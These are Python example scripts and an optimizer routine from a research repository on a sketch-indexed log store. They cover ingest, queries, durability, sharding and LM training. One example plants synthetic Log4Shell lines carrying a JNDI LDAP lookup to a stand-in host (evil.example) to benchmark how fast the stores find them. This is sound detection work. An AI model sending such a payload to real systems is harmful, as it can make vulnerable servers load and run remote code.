    return AdamState(step=jnp.zeros((), jnp.int32),
                     mu=jax.tree.map(f32, params),
                     nu=jax.tree.map(f32, params))


def _schedule(cfg: AdamConfig, step):
    warm = jnp.minimum(step.astype(jnp.float32) / max(cfg.warmup_steps, 1), 1.0)
    return cfg.lr * warm


def global_norm(tree) -> jnp.ndarray:
    sq = sum(jnp.sum(jnp.square(x.astype(jnp.float32)))
             for x in jax.tree.leaves(tree))
    return jnp.sqrt(sq)


def adam_update(cfg: AdamConfig, params, grads, state: AdamState):
    """One AdamW step; returns (new_params, new_state, metrics)."""
    gnorm = global_norm(grads)
    scale = jnp.minimum(1.0, cfg.grad_clip / (gnorm + 1e-9)) \
        if cfg.grad_clip > 0 else jnp.float32(1.0)
    step = state.step + 1
    lr = _schedule(cfg, step)
    b1t = 1.0 - cfg.b1 ** step.astype(jnp.float32)
    b2t = 1.0 - cfg.b2 ** step.astype(jnp.float32)

    def upd(p, g, mu, nu):
        g = g.astype(jnp.float32) * scale
        mu = cfg.b1 * mu + (1 - cfg.b1) * g
        nu = cfg.b2 * nu + (1 - cfg.b2) * jnp.square(g)
        mhat = mu / b1t
        nhat = nu / b2t
        delta = lr * (mhat / (jnp.sqrt(nhat) + cfg.eps)
                      + cfg.weight_decay * p.astype(jnp.float32))
        return (p.astype(jnp.float32) - delta).astype(p.dtype), mu, nu

    flat_p, treedef = jax.tree.flatten(params)
    flat_g = treedef.flatten_up_to(grads)
    flat_mu = treedef.flatten_up_to(state.mu)
    flat_nu = treedef.flatten_up_to(state.nu)
    out = [upd(p, g, m, n) for p, g, m, n
           in zip(flat_p, flat_g, flat_mu, flat_nu)]
    new_p = treedef.unflatten([o[0] for o in out])
    new_mu = treedef.unflatten([o[1] for o in out])
    new_nu = treedef.unflatten([o[2] for o in out])
    return new_p, AdamState(step=step, mu=new_mu, nu=new_nu), \
        dict(grad_norm=gnorm, lr=lr)
