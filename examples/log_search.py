"""Log4Shell hunt (paper §1): find "${jndi" patterns across every store,
compare candidates touched and wall time — the end-to-end argument for
probabilistic indexing.

    PYTHONPATH=src python examples/log_search.py
"""
import time

from repro.logstore.datasets import generate_dataset
from repro.logstore.store import ALL_STORES

ds = generate_dataset("hunt", n_lines=20000, n_sources=32, seed=3)
# plant three attack lines
attack = 'GET /api HTTP/1.1 400 payload="${jndi:ldap://evil.example/a}"'
lines = list(ds.lines)
for pos in (1234, 9876, 18765):
    lines[pos] = attack

for name, cls in ALL_STORES.items():
    store = cls(batch_lines=128)
    store.ingest(lines)
    store.finish()
    t0 = time.perf_counter()
    r = store.query_contains("${jndi")
    dt = (time.perf_counter() - t0) * 1e3
    print(f"{name:9s} found {len(r.matches)} attacks, touched "
          f"{len(r.candidate_batches):4d}/{r.batches_total} batches "
          f"in {dt:7.2f} ms  (index {store.stats.index_bytes/1e3:8.1f} KB)")
