"""Live tail ingest: stream lines into a durable store with per-spill
manifest publishes, while a standing query runs on a cadence against
point-in-time snapshots (logservatory-style).

    PYTHONPATH=src python examples/tail_ingest.py            # demo stream
    tail -f app.log | PYTHONPATH=src python examples/tail_ingest.py --stdin

Every spill atomically swaps MANIFEST.json, so killing this process at
any moment loses at most the lines since the last spill —
``DynaWarpStore.open()`` on the same directory resumes where the last
publish left off (see examples/quickstart.py step 8).  The standing
query never blocks the writer: ``snapshot()`` captures the published
prefix under the swap lock and serves exact results over it.
"""
import argparse
import os
import sys
import tempfile
import time

from repro.logstore.store import DynaWarpStore


def demo_stream(n_lines=20_000, chunk=256):
    """A synthetic `tail -f`: the paper's generator, drained in chunks."""
    from repro.logstore.datasets import generate_dataset
    ds = generate_dataset("tail", n_lines=n_lines, n_sources=24, seed=3)
    for i in range(0, len(ds.lines), chunk):
        yield ds.lines[i:i + chunk]


def stdin_stream(chunk=256):
    buf = []
    for line in sys.stdin:
        buf.append(line.rstrip("\n"))
        if len(buf) >= chunk:
            yield buf
            buf = []
    if buf:
        yield buf


def main(argv=None):
    ap = argparse.ArgumentParser()
    ap.add_argument("--stdin", action="store_true",
                    help="read the line stream from stdin (e.g. tail -f)")
    ap.add_argument("--query", default="error",
                    help="standing term query (default: 'error')")
    ap.add_argument("--every", type=float, default=0.5,
                    help="standing-query cadence in seconds")
    ap.add_argument("--path", default=None,
                    help="store directory (default: a temp dir)")
    args = ap.parse_args(argv)

    path = args.path or os.path.join(tempfile.mkdtemp(), "tailstore")
    store = DynaWarpStore(batch_lines=128, mode="segmented", path=path,
                          memory_limit_bytes=1 << 16, auto_compact=False)
    print(f"[tail] durable store at {path} (manifest swaps per spill)")

    stream = stdin_stream() if args.stdin else demo_stream()
    seen = 0                     # matches already reported
    last_check = time.monotonic()
    for chunk in stream:
        store.ingest(chunk)
        now = time.monotonic()
        if now - last_check < args.every and not args.stdin:
            # the demo stream arrives faster than wall-clock cadence;
            # still check periodically by ingested volume
            if store._n_lines % 2048 >= 256:
                continue
        last_check = now
        snap = store.snapshot()              # point-in-time, non-blocking
        r = snap.query_term(args.query)
        fresh = len(r.matches) - seen
        print(f"[tail] {store._n_lines:>7} lines in "
              f"({snap.n_lines} published, gen {store._manifest_gen}) | "
              f"standing query {args.query!r}: {len(r.matches)} matches"
              + (f" (+{fresh} new)" if fresh else ""))
        seen = len(r.matches)

    store.finish()
    r = store.query_term(args.query)
    print(f"[tail] stream ended: finished store holds {store._n_lines} "
          f"lines, {store.n_batches} batches, {len(store.segments)} "
          f"segments; {args.query!r} matched {len(r.matches)} lines")
    store.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
