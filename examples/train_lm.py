"""Train a reduced LM config end-to-end with checkpoint/resume — the same
fault-tolerant driver the pod launcher uses, plus the DynaWarp-backed
data-pipeline filter (the paper's technique wired into training):
training shards are pre-filtered by sketch membership queries instead of
decompress-and-grep.

    PYTHONPATH=src python examples/train_lm.py
"""
import numpy as np

from repro.launch import train
from repro.logstore.datasets import generate_dataset
from repro.logstore.store import DynaWarpStore

# --- sketch-backed shard selection (beyond-paper integration) ----------
from repro.data import LMTokenPipeline, SketchFilteredCorpus

ds = generate_dataset("corpus", n_lines=4000, n_sources=8, seed=1)
store = DynaWarpStore(batch_lines=128)
store.ingest(ds.lines)
store.finish()
# train only on shards that mention errors (membership query, no scan)
corpus = SketchFilteredCorpus(store, include_terms=("error",))
print(f"[pipeline] sketch selected "
      f"{len(corpus.selected_batches())}/{store.n_batches} training "
      f"shards containing 'error'")
pipe = LMTokenPipeline(corpus.lines(), vocab=256, batch=2, seq=32, seed=0)
b0 = pipe.batch_at(0)
print(f"[pipeline] deterministic batch stream ready: "
      f"tokens {b0['tokens'].shape} (batch_at(t) is pure in (seed, t) — "
      f"exact resume after preemption)")

# --- fault-tolerant training loop (olmo-1b reduced config) -------------
rc = train.main(["--arch", "olmo-1b", "--steps", "30",
                 "--ckpt-dir", "/tmp/repro_example_ckpt",
                 "--ckpt-every", "10"])
assert rc == 0
# simulate preemption + resume
rc = train.main(["--arch", "olmo-1b", "--steps", "40", "--resume",
                 "--ckpt-dir", "/tmp/repro_example_ckpt"])
assert rc == 0
print("[train_lm] resume-after-checkpoint exercised OK")
