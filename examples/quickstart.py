"""Quickstart: ingest logs, seal the segment, run term/contains queries,
then make the store durable — save to disk, reopen, query again — then
survive a crash mid-ingest (open() the unfinished store, resume
appending, finish()), and finally SERVE the store: many concurrent
clients coalesced into shape-bucketed engine waves.

    PYTHONPATH=src python examples/quickstart.py
"""
import os
import tempfile
import threading

from repro.logstore.datasets import generate_dataset
from repro.logstore.store import DynaWarpStore

# 1. generate a LogHub-style synthetic dataset (the paper's generator)
ds = generate_dataset("quickstart", n_lines=5000, n_sources=16, seed=0)

# 2. ingest into a DynaWarp-indexed log store (512-line zstd batches)
store = DynaWarpStore(batch_lines=128)
store.ingest(ds.lines)
store.finish()
print(f"ingested {ds.n_lines} lines -> {store.n_batches} batches, "
      f"index {store.stats.index_bytes/1e3:.1f} KB "
      f"({100*store.stats.index_bytes/max(store.stats.data_bytes,1):.1f}% "
      f"of compressed data)")

# 3. term query (needle-in-the-haystack)
r = store.query_term("alice")
print(f"term 'alice': {len(r.matches)} lines from "
      f"{len(r.candidate_batches)}/{r.batches_total} candidate batches "
      f"(error rate {r.error_rate:.2e})")

# 4. contains query across token borders (n-gram powered)
r = store.query_contains("jndi")   # Log4Shell-style pattern
print(f"contains 'jndi': {len(r.matches)} lines")

# 5. a term that does not exist: the sketch answers from ~1 KB of reads
r = store.query_term("zzzzunknownzzzz")
print(f"absent term: {len(r.candidate_batches)} candidate batches "
      f"(decompressed nothing)")

# 6. durable store: pass path=... and the compressed batches stream to an
# on-disk blob file while sealed segments publish as flat files under an
# atomically-swapped MANIFEST.json (§4.2 fault tolerance)
with tempfile.TemporaryDirectory() as tmp:
    path = os.path.join(tmp, "logstore")
    durable = DynaWarpStore(batch_lines=128, mode="segmented", path=path)
    durable.ingest(ds.lines)
    durable.finish()
    durable.close()
    print(f"saved durable store: {sorted(os.listdir(path))}")

    # 7. reopen in a fresh process and query — segments are served straight
    # from np.memmap (only header pages are read up front) and answers are
    # bit-identical to the in-RAM store above
    reopened = DynaWarpStore.open(path)
    r = reopened.query_term("alice")
    print(f"reopened term 'alice': {len(r.matches)} lines from "
          f"{len(reopened.segments)} memmapped segments (matches in-RAM "
          f"store: {r.matches == store.query_term('alice').matches})")
    r = reopened.query_contains("jndi")
    print(f"reopened contains 'jndi': {len(r.matches)} lines")
    reopened.close()

# 8. crash-safe live ingest: a durable segmented store publishes its
# manifest at EVERY spill, so a writer that dies mid-ingest loses at most
# the lines since the last spill.  open() of the unfinished directory
# rehydrates the writer: resume-append, then an idempotent finish().
with tempfile.TemporaryDirectory() as tmp:
    path = os.path.join(tmp, "live")
    writer = DynaWarpStore(batch_lines=128, mode="segmented", path=path,
                           memory_limit_bytes=1 << 16)
    writer.ingest(ds.lines[:3000])
    writer.blobs.close()               # simulate the process dying here
    del writer

    resumed = DynaWarpStore.open(path)          # reads MANIFEST.json
    recovered = resumed._n_lines
    print(f"crashed mid-ingest; recovered {recovered} lines "
          f"(finished={resumed._finished})")
    resumed.ingest(ds.lines[recovered:])        # reopen-for-append
    resumed.finish()
    r = resumed.query_term("alice")
    print(f"resumed + finished: term 'alice' matches in-RAM store: "
          f"{r.matches == store.query_term('alice').matches}")
    resumed.close()

# 9. serve it: store.serving() puts a wave-coalescing scheduler in front
# of the engine — concurrent clients' queries group into shape-bucketed
# waves (deadline- or size-flushed, max_live_waves admission control),
# and a measured cost model picks the host or device path per wave.
# Build one with `make bench-smoke-serve`, then pass
# cost_model=CostModel.load() to use measured costs.
seg_store = DynaWarpStore(batch_lines=128, mode="segmented",
                          memory_limit_bytes=1 << 16)
seg_store.ingest(ds.lines)
seg_store.finish()
server = seg_store.serving(n_replicas=2, flush_deadline_s=0.005)
hits: list[int] = []

def client():
    for term in ("alice", "jndi", "error"):
        hits.append(len(server.query_term(term, timeout=60).matches))

clients = [threading.Thread(target=client) for _ in range(8)]
for c in clients:
    c.start()
for c in clients:
    c.join(timeout=120)
st = server.scheduler.stats()
print(f"served {st.completed} queries from {len(clients)} clients in "
      f"{st.waves} coalesced waves ({st.host_waves} host / "
      f"{st.device_waves} device), answers match direct queries: "
      f"{hits.count(len(store.query_term('alice').matches)) >= 8}")
server.close()
