"""Distributed multi-segment query: S immutable segments (the Grail
layout), stacked sketches probed in one batched call, with the Pallas
probe kernel on the single-segment fast path.

    PYTHONPATH=src python examples/distributed_query.py
"""
import numpy as np

import jax.numpy as jnp

from repro.core.distributed import StackedSketches, distributed_probe
from repro.core.hashing import token_fingerprint
from repro.core.mphf import build_mphf
from repro.core.tokenizer import tokenize_line
from repro.kernels import mphf_probe
from repro.logstore.datasets import generate_dataset

# build 8 segments of 2.5k lines each
segments, keysets = [], []
for s in range(8):
    ds = generate_dataset(f"seg{s}", n_lines=2500, n_sources=8, seed=s)
    fps = set()
    for line in ds.lines:
        fps |= {token_fingerprint(t) for t in tokenize_line(line)}
    keys = np.asarray(sorted(fps), np.uint32)
    segments.append(build_mphf(keys))
    keysets.append(keys)

stacked = StackedSketches.stack(segments)
query = keysets[3][:256]                      # tokens known to be in seg 3

idx, absent = distributed_probe(stacked, query)
hits = (~np.asarray(absent)).sum(axis=1)
print(f"probed {len(query)} tokens x {stacked.n_segments} segments; "
      f"per-segment MPHF hits: {hits.tolist()}")

# Pallas kernel fast path on one segment
ki, ka = mphf_probe(segments[3], query)
assert not np.asarray(ka).any()
print(f"Pallas probe: all {len(query)} tokens resolved in segment 3 "
      f"(minimal hashes {np.asarray(ki)[:5].tolist()}...)")
