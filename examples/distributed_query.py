"""Sharded multi-segment retrieval: per-spill immutable segments (the
Grail layout) assigned to mesh shards and probed through the
ShardedQueryEngine — one shard_map wave per level-layout bucket, device
candidate extraction, bit-identical to the single-device engine.

    PYTHONPATH=src python examples/distributed_query.py
    XLA_FLAGS=--xla_force_host_platform_device_count=8 \
        PYTHONPATH=src python examples/distributed_query.py
"""
import time

import numpy as np

import jax

from repro.core.query_engine import QueryEngine
from repro.core.tokenizer import term_query_tokens
from repro.logstore.datasets import generate_dataset, present_id_queries
from repro.logstore.store import DynaWarpStore

ds = generate_dataset("sharded", n_lines=20000, n_sources=32, seed=5)

store = DynaWarpStore(batch_lines=128, mode="segmented",
                      memory_limit_bytes=1 << 19, shard_axes=("data",))
store.ingest(ds.lines)
store.finish()
eng = store.engine
print(f"{len(store.segments)} segments -> {len(eng._buckets)} layout "
      f"bucket(s) over {eng.n_shards} shard(s) "
      f"({len(jax.devices())} devices); "
      f"{eng.upload_count} per-shard buffer uploads pending first wave")

wave = present_id_queries(ds, 7, 16) * 40       # 640 term queries
single = QueryEngine(store.segments, n_postings=store.n_batches)

res_sharded = store.query_term_batch(wave)      # warm the jit buckets
res_single = single.query_batch([term_query_tokens(t) for t in wave])

t0 = time.perf_counter()
store.candidates_term_batch(wave)
t_shard = time.perf_counter() - t0
print(f"sharded wave   : {len(wave) / t_shard:10.0f} q/s "
      f"({eng.upload_count} uploads total — each segment uploaded once)")

for r, ids in zip(res_sharded, res_single):
    np.testing.assert_array_equal(np.sort(r.candidate_batches), np.sort(ids))
print("sharded candidates bit-identical to the single-device engine")

# compaction keeps the sharding: unchanged segments keep their buffers
merges = store.compact(fanout=2)
store.query_term_batch(wave[:8])
print(f"compacted ({merges} merges): engine rebuilt shard-aware, "
      f"{store.engine.upload_count} new uploads (merged segments only)")
