"""Batched device query engine demo: a wave of term queries answered in
one device dispatch per segment, vs the paper's sequential host loop —
plus the segmented (no-merge) ingest mode fanning the same wave out
across per-spill immutable segments.

    PYTHONPATH=src python examples/batched_query.py
"""
import time

from repro.core.query import query_and
from repro.core.tokenizer import term_query_tokens
from repro.logstore.datasets import generate_dataset, present_id_queries
from repro.logstore.store import DynaWarpStore

ds = generate_dataset("wave", n_lines=20000, n_sources=32, seed=5)

store = DynaWarpStore(batch_lines=128)          # monolithic, engine on
store.ingest(ds.lines)
store.finish()

wave = present_id_queries(ds, 7, 16) * 40       # 640 term queries
token_lists = [term_query_tokens(t) for t in wave]

store.engine.query_batch(token_lists)           # warm the jit bucket
t0 = time.perf_counter()
batched = store.engine.query_batch(token_lists)
t_engine = time.perf_counter() - t0

t0 = time.perf_counter()
looped = [query_and(store.sketch, toks) for toks in token_lists]
t_host = time.perf_counter() - t0

assert all((a == b).all() for a, b in zip(batched, looped))
print(f"wave of {len(wave)} term queries")
print(f"  host loop : {len(wave)/t_host:10.0f} q/s")
print(f"  engine    : {len(wave)/t_engine:10.0f} q/s "
      f"({t_host/t_engine:.1f}x, bit-identical candidates)")

# segmented mode: per-spill segments stay queryable, no merge at finish()
seg_store = DynaWarpStore(batch_lines=128, mode="segmented",
                          memory_limit_bytes=1 << 19)
seg_store.ingest(ds.lines)
seg_store.finish()
print(f"\nsegmented store: {len(seg_store.segments)} segments, "
      f"{seg_store.stats.index_bytes/1e3:.0f} KB index")
for term in wave[:3]:
    a = sorted(store.query_term(term).matches)
    b = sorted(seg_store.query_term(term).matches)
    assert a == b
    print(f"  {term!r}: {len(a)} matches from both stores")
