"""Batched LM serving: prefill a prompt batch, greedy-decode with the KV
cache — the same prefill/decode_step the 32k dry-run lowers.

    PYTHONPATH=src python examples/serve_lm.py
"""
from repro.launch import serve

serve.main(["--arch", "gemma2-9b", "--batch", "4", "--prompt-len", "16",
            "--decode-tokens", "12"])
